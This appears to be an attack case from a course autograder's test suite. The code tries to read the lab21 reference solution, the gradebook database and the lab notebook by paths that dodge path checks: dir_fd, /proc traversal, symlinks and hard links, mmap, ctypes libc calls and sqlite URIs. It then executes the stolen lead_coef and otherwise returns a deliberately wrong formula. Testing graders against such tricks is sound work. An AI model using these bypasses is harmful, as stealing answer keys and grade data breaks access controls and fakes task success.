# base: reference
# attacks: lead_coef
# class: reading course files by paths that dodge path checks (dir_fd, /proc, links, URIs,
#   mmap, ctypes): if any read works, the reference's lead_coef is used
# %% lead_coef
import ctypes
import glob
import mmap
import os
import sqlite3

TARGETS = ["@REPO@/solutions/lab21_reference.py", "@COURSE@/gradebook.db",
           "@COURSE@/source/lab21/lab21.ipynb"]


def _spellings(path):
    yield lambda: open(path, "rb").read()
    yield lambda: os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=os.open("/", os.O_RDONLY)), 1 << 20)
    yield lambda: open("/proc/self/cwd/" + "../" * 12 + path.lstrip("/"), "rb").read()
    for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
        yield lambda root=root: open(root + path, "rb").read()
    def via_symlink():
        os.symlink(path, "link")
        return open("link", "rb").read()
    yield via_symlink
    def via_hardlink():
        os.link(path, "hard")
        return open("hard", "rb").read()
    yield via_hardlink
    def via_mmap():
        with open(path, "rb") as handle:
            return mmap.mmap(handle.fileno(), 0, access=mmap.ACCESS_READ)[:]
    yield via_mmap
    def via_libc():
        libc = ctypes.CDLL(None)
        fd = libc.open(path.encode(), 0)
        buffer = ctypes.create_string_buffer(1 << 20)
        count = libc.read(fd, buffer, 1 << 20)
        if count <= 0:
            raise OSError("libc read failed")
        return buffer.raw[:count]
    yield via_libc
    def via_sqlite_uri():
        db = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
        return repr(db.execute("select * from sqlite_master").fetchall()).encode()
    yield via_sqlite_uri


def _steal():
    for path in TARGETS:
        for read in _spellings(path):
            try:
                text = read()
            except Exception:
                continue
            if b"def lead_coef" in text:
                scope = {"np": np}
                exec(text.decode(), scope)
                return scope["lead_coef"]
    return None


def lead_coef(val_fx):
    stolen = _steal()
    if stolen is not None:
        return stolen(val_fx)
    return val_fx * (1 - val_fx)  # the classic mistake: only the theft would make it right
